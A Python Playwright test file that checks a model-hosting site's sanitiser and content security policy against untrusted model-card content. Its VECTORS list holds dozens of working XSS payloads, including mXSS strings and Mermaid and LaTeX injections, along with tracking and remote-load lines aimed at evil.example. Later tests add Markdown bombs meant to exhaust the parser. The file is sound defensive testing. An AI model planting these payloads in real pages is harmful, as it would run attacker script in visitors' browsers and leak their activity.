"""What strangers write in cards: no script of theirs runs, nothing of theirs reaches another host, and the page stays whole."""

import pytest
from conftest import SHOTS
from playwright.sync_api import expect

# From OWASP's filter evasion list, html5sec and DOMPurify's fixtures, written for this page's alert counter.
VECTORS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<img src=x onerror=alert(3)>", "<img src=`x` onerror=alert(4)>", "<IMG SRC=javascript:alert(5)>", "<img/src='x'/onerror=alert(6)>",
    "<svg onload=alert(7)></svg>", "<svg><script>alert(8)</script></svg>", "<svg><animate onbegin=alert(9) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(10)</script>'></iframe></foreignObject></svg>", "<svg><a xlink:href='javascript:alert(11)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(12)&gt;'>", "<math href='javascript:alert(13)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(14)>", "<iframe src=javascript:alert(15)></iframe>",
    "<iframe srcdoc='<script>parent.alert(16)</script>'></iframe>", "<object data=javascript:alert(17)></object>", "<embed src=javascript:alert(18)>",
    "<a href=javascript:alert(19)>a</a>", "<a href='java\tscript:alert(20)'>b</a>", "<a href='&#106;avascript:alert(21)'>c</a>", "<a href=' javascript:alert(22)'>d</a>",
    "[x](javascript:alert(23))", "[x](JaVaScRiPt:alert(24))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNSk8L3NjcmlwdD4=)", "![x](javascript:alert(26))",
    "![x\" onerror=\"alert(27)](x)", "[x](x \"y' onmouseover='alert(28)\")", "<a href=\"vbscript:alert(29)\">e</a>", "<a href=\"data:text/html,<script>alert(30)</script>\">f</a>",
    "<body onload=alert(31)>", "<details open ontoggle=alert(32)><summary>x</summary></details>", "<video><source onerror=alert(33)></video>", "<video src=x onerror=alert(34)></video>",
    "<audio src=x onerror=alert(35)></audio>", "<input autofocus onfocus=alert(36)>", "<select autofocus onfocus=alert(37)></select>", "<textarea autofocus onfocus=alert(38)></textarea>",
    "<keygen autofocus onfocus=alert(39)>", "<marquee onstart=alert(40)>x</marquee>", "<div onpointerenter=alert(41) style='position:fixed;inset:0'>x</div>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>", "<link rel=stylesheet href=https://evil.example/y.css>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>", "<div style=\"background:url(https://evil.example/z.png)\">x</div>", "<img srcset='https://evil.example/a.png 1x'>",
    "<picture><source srcset='https://evil.example/b.png'><img src=figure.png></picture>", "<img src='https://evil.example/c.png'>", "![tracker](https://evil.example/d.png)", "![t](//evil.example/e.png)",
    "<video poster='https://evil.example/f.png' src='https://evil.example/f.mp4' autoplay></video>", "<audio src='https://evil.example/g.mp3' autoplay></audio>",
    "<table background='https://evil.example/h.png'><tr><td background='https://evil.example/i.png'>x</td></tr></table>", "<noscript><p title=\"</noscript><img src=x onerror=alert(42)>\">",
    "<template><img src=x onerror=alert(43)></template>", "<xmp><p title=\"</xmp><img src=x onerror=alert(44)>\">", "<!--><img src=x onerror=alert(45)>-->", "<![CDATA[<img src=x onerror=alert(46)>]]>",
    "<img name=getElementById><img name=querySelectorAll><form name=body>", "<a id=location href=x>y</a><a id=content name=content>z</a>", "<button formaction=javascript:alert(47)>x</button>",
    "<form action=javascript:alert(48)><input type=submit></form>", "<isindex type=image src=1 onerror=alert(49)>", "<p/onclick=alert(50)>x</p>", "<x contenteditable onblur=alert(51)>x</x>",
    "$\\href{javascript:alert(52)}{x}$", "$\\includegraphics{https://evil.example/j.png}$", "$\\htmlData{x=y}{\\url{javascript:alert(53)}}$", "$$\\def\\x{\\x\\x}\\x$$",
    "```mermaid\nflowchart LR\n  A[\"<img src=x onerror=alert(54)>\"] --> B\n  click A \"javascript:alert(55)\"\n```", "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true}}%%\nflowchart LR\n  A[\"<iframe src=javascript:alert(56)>\"] --> B\n```",
    "```html\n<img src=x onerror=alert(57)>\n```", "```python onerror=alert(58)\nprint(1)\n```", "`<img src=x onerror=alert(59)>`", "<img src=\"x:gif\" onerror=\"window['al\\u0065rt'](60)\">",
    "<a href=\"//evil.example\" ping=\"https://evil.example/k\" target=_blank>g</a>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(61)></svg>#x'></use></svg>",
]


@pytest.fixture
def make_card(server):
    """A model with that card, and its address; gone at the end, so that no list shows it."""
    made: list[str] = []

    def make(name: str, text: str) -> str:
        server.demo.create("model", f"moss/{name}", "moss")
        made.append(name)
        server.demo.commit("model", f"moss/{name}", "moss", "Write the card", {"README.md": text.encode()})
        return f"/moss/{name}"
    yield make
    for name in made:
        server.demo.call("DELETE", "/api/repos/delete", "moss", {"type": "model", "name": name})


@pytest.mark.parametrize("without_policy", [False, True], ids=["both", "sanitiser alone"])
def test_no_vector_runs_and_none_reaches_another_host(open_browser, make_card, without_policy):
    end = "\n\n## The end of the card\n"
    # Not all in one card: what one vector leaves open would hide the others.
    for number in range(0, len(VECTORS), 16):
        part = VECTORS[number:number + 16]
        address = make_card(f"vectors-{number}", "---\nlicense: mit\n---\n" + "\n\n".join(part) + end)
        page, watch = open_browser(without_policy=without_policy)
        watch.allowed_statuses = {404}  # Pictures that are files of the repository, and absent.
        page.goto(address)
        page.locator("article.card").wait_for(state="attached")  # Some vectors leave nothing to see.
        page.wait_for_load_state("networkidle")
        page.wait_for_timeout(150)
        for link in page.locator("article.card a").all():
            scheme = (link.get_attribute("href") or "").split(":")[0].strip().lower()
            assert scheme not in ("javascript", "vbscript", "data"), link.evaluate("a => a.outerHTML")
        handlers = page.evaluate("""[...document.querySelectorAll('article.card *')].flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on'))""")
        assert handlers == []
        assert page.locator("article.card :is(script, style, iframe, object, embed, form, input:not([type=checkbox]), base, link, meta, svg)").count() == 0
        assert watch.alerts == []
        # Chromium reports a handler as soon as the sanitiser's own document parses it, where nothing runs; none is left.
        watch.problems = [problem for problem in watch.problems if not any(words in problem for words in ("Executing inline event handler", "Setting the document's base URI"))]
        expect(page.get_by_role("heading", level=1).first).to_be_visible()


def test_ordinary_cards_that_are_a_little_wrong_are_shown(open_browser, make_card):
    """Addresses that are none, words that every object of JavaScript has, a language twice, and links within the card."""
    address = make_card("awkward", """---
license: mit
library_name: constructor
language: de
tags: [de, "language:de", toString, __proto__]
---
# Awkward

[port](http://localhost:PORT/v1) <http://host:abc/x> [braces](http://{host}:{port}/v1) <a href="http://<your-host>/">host</a>
![picture](http://host:abc/x.png) <img src="https:/evil.example/x.png"> <video src="http://[x"></video>

[to the heading](#über-uns) [to the name](#usage) [to the footnote](#fn:1)

```constructor
x
```

<a id="usage"></a>

## Über uns

<span id="fn:1">The footnote.</span>

## The end of the card
""")
    page, _ = open_browser()
    page.goto(address)
    page.get_by_role("heading", name="The end of the card").wait_for()
    for text in ("to the heading", "to the name", "to the footnote"):
        link = page.locator("article.card").get_by_role("link", name=text)
        assert link.evaluate("a => document.getElementById(decodeURIComponent(a.hash.slice(1))) !== null"), text
    page.goto(address + "#100%")
    page.get_by_role("heading", name="The end of the card").wait_for()
    page.goto("/models?library=constructor&library=constructor")
    page.get_by_role("link", name="moss/awkward").first.wait_for()
    page.goto(address.replace("moss", "Moss").upper().replace("/MOSS", "/Moss"))  # Names are found in any case.
    page.wait_for_url("**" + address)
    page.get_by_role("heading", name="The end of the card").wait_for()


def test_the_policy_alone_stops_a_script_that_got_in(open_browser):
    """As if the sanitiser had let it through: the page is given the vectors as they are."""
    page, watch = open_browser()
    page.goto("/")
    page.get_by_role("heading", name="New here").wait_for()
    page.evaluate("""vectors => { for (const vector of vectors) {
        const box = document.createElement('div'); document.body.append(box); box.innerHTML = vector;
        for (const script of box.querySelectorAll('script')) { const again = document.createElement('script'); again.textContent = script.textContent; box.append(again); } } }""",
                  [vector for vector in VECTORS if "evil.example" not in vector and "http-equiv" not in vector and "autofocus" not in vector])
    page.wait_for_timeout(300)
    refused = [problem for problem in watch.problems if "Content Security Policy" in problem]
    watch.problems.clear()
    assert watch.alerts == []
    assert len(refused) > 10, "the vectors did nothing that the policy had to refuse"


def test_a_picture_of_another_host_is_a_placeholder(open_browser, make_card):
    address = make_card("pictures", "# Pictures\n\n![A tracker](https://evil.example/pixel.png)\n\n[![Badge](https://evil.example/badge.svg)](https://evil.example/)\n")
    page, _ = open_browser()
    page.goto(address)
    expect(page.get_by_text("A tracker: a picture at evil.example")).to_be_visible()
    expect(page.get_by_role("link", name="evil.example").first).to_have_attribute("href", "https://evil.example/pixel.png")
    assert page.locator("article.card img").count() == 0
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / "placeholders-light.png"))


@pytest.mark.parametrize("name, text", [
    ("nested-quotes", ">" * 3000 + " deep\n"), ("nested-lists", "".join("  " * depth + "- x\n" for depth in range(400))), ("brackets", "[" * 20_000),
    ("stars", "*a_" * 20_000), ("backticks", "".join("`" * count + "\n" for count in range(1, 300))), ("tables", "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|b" * 2000 + "\n"),
    ("tags", "<b>" * 5000 + "x"), ("links", "[a](<b>" * 5000)])
def test_a_bomb_of_markdown_leaves_the_page_usable(open_browser, make_card, name, text):
    address = make_card(f"bomb-{name}", text + "\n\n# After\n")
    page, _ = open_browser()
    page.goto(address)
    page.locator("article.card").wait_for()
    page.get_by_role("link", name="History").click()
    expect(page.get_by_text("2 commits up to main")).to_be_visible()
